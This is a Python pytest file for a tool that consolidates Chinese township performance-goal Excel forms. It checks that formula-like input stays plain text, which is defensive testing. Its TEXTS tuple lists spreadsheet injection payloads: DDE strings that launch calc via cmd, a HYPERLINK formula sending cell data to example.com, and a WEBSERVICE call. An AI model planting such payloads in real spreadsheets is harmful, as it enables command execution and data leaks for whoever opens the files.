"""Text that looks like a formula, in every place where a township can write: it stays text everywhere."""

import json
import re
import zipfile

import openpyxl
import pytest
from defusedxml import ElementTree

from xl_perfgoals.core.policy import Policy, Roster, Unit
from xl_perfgoals.ops.records import check_record, consolidate_record
from xl_perfgoals.pipeline.county import consolidate_paths, write_county_workbook
from xl_perfgoals.rules.model import model_grid
from xl_perfgoals.templates import unit_template, write_template

TEXTS = (
    "=1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://example.com/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    '=WEBSERVICE("http://example.com/")',
    "{=1+1}",
    "'=1+1",
)
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SIGNS = tuple("=+-@＝＋－＠\t\r\n")
PAYLOAD = re.compile("cmd|WEBSERVICE|example|1\\+1|SUM\\(A1\\)", re.IGNORECASE)


def township(path, text, sheet="绩效目标表"):
    """The model form with the text in every blank that takes one, its cells all texts."""
    edits = {
        "项目名称": f"{text}项目",
        "实施单位": f"{text}镇",
        "主管部门及代码": f"{text}局 061",
        "年度总体目标": text,
        "项目属性": text,
        "项目期": text,
        "数量指标.三级指标": text,
        "数量指标.指标值": text,
        "其他资金": text,
    }
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = sheet
    for row, cells in enumerate(model_grid(edits).rows, 1):
        for col, value in enumerate(cells, 1):
            ws.cell(row, col).value = value
            if isinstance(value, str):
                ws.cell(row, col).data_type = "s"
    book.save(path)
    return path


def parts(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def formulas(parts):
    """The texts of all formulas of a workbook, those of lists, colours and names too."""
    tags = {f"{SPACE}{tag}" for tag in ("f", "formula", "formula1", "formula2", "definedName")}
    return [
        element.text or ""
        for name, data in parts.items()
        if name.startswith("xl/") and name.endswith(".xml")
        for element in ElementTree.fromstring(data).iter()
        if element.tag in tags
    ]


def cells_like_formulas(parts):
    """Of every cell with such a text: whether it has a formula, and whether it is marked as a text."""
    strings = ["".join(i.itertext()) for i in ElementTree.fromstring(parts["xl/sharedStrings.xml"])]
    formats = ElementTree.fromstring(parts["xl/styles.xml"]).find(f"{SPACE}cellXfs")
    found = []
    for name, data in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            for cell in ElementTree.fromstring(data).iter(f"{SPACE}c"):
                value = cell.find(f"{SPACE}v")
                if cell.get("t") == "s" and strings[int(value.text)].startswith(SIGNS):
                    marked = formats[int(cell.get("s", "0"))].get("quotePrefix") == "1"
                    found.append((cell.find(f"{SPACE}f") is not None, marked))
    return found


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("in") / "=1+1"
    folder.mkdir()
    for number, text in enumerate(TEXTS):
        sheet = "=1+1" if number % 2 else "@SUM(A1)"
        township(folder / f"=1+1 {number}.xlsx", text, sheet)
    township(folder / "@SUM(A1).xlsx", "=1+1", "-1+1")
    return folder


@pytest.fixture(scope="module")
def result(folder):
    return consolidate_paths([folder])


def test_all_of_it_was_read(result):
    assert len(result.intake.submission.forms) == len(TEXTS) + 1
    names = {form.annual_goal.text for form in result.intake.submission.forms}
    assert {text.strip() for text in TEXTS} <= names


def test_in_the_county_workbook_it_is_text(result, tmp_path):
    target = tmp_path / "汇总.xlsx"
    write_county_workbook(result, target, Roster(), "2026-11-21T10:00:00")
    made = parts(target)
    found = cells_like_formulas(made)
    assert len(found) > 10 * len(TEXTS)
    assert set(found) == {(False, True)}
    assert not [text for text in formulas(made) if PAYLOAD.search(text)]
    assert not [name for name in made if "externalLink" in name or "connections" in name]
    links = [data.decode() for name, data in made.items() if name.endswith(".rels")]
    assert not [text for text in links if "example.com" in text or 'Target="=' in text or "http://ex" in text]


def test_on_the_next_run_nothing_has_become_a_formula(result, tmp_path):
    target = tmp_path / "汇总.xlsx"
    for _ in range(2):
        write_county_workbook(result, target, Roster(), "2026-11-21T10:00:00")
    for path in tmp_path.iterdir():
        assert not [text for text in formulas(parts(path)) if PAYLOAD.search(text)]


def test_in_json_it_is_text(result):
    submission, summary = result.intake.submission, result.summary
    record = json.loads(check_record(submission, result.findings).model_dump_json())
    assert {form["annual_goal"] for form in record["forms"]} >= {text.strip() for text in TEXTS}
    assert json.loads(consolidate_record(submission, summary).model_dump_json())["left_out"]


def test_in_templates_names_of_the_roster_are_text(tmp_path):
    unit = Unit(name="=1+1", code="+1+1", department="@SUM(A1)")
    template = unit_template(unit, Roster(units=(unit,)), Policy(), 2)
    write_template(tmp_path / "模板.xlsx", template)
    made = parts(tmp_path / "模板.xlsx")
    assert cells_like_formulas(made)
    assert not [found for found in cells_like_formulas(made) if found[0]]
    assert not [text for text in formulas(made) if PAYLOAD.search(text)]
